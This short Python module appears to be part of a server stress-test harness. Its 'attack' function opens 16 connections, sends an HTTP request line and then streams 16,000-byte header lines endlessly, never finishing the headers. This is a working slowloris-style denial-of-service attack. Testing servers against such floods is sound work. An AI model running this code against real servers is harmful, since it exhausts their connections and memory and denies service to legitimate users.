"""Header fields without end, on 16 connections."""

from wire.link import link


async def attack(target):
    async def lane(number):
        async with link(target, target.source(number)) as it:
            if it:
                await it.send(b"GET /small HTTP/1.1\r\nhost: a\r\n")
                while target.goes_on():
                    await it.send(b"x: " + b"y" * 16000 + b"\r\n")

    await target.lanes(16, lane)
